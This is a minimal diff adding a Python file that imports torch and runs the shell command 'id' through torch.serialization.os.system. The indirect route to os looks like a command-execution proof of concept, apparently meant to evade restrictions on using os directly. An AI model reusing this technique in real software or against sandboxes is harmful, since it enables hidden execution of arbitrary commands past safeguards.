@@ -1,0 +1,3 @@
+from torch.utils.data.datapipes.utils import common
+import torch
+torch.serialization.os.system('id')
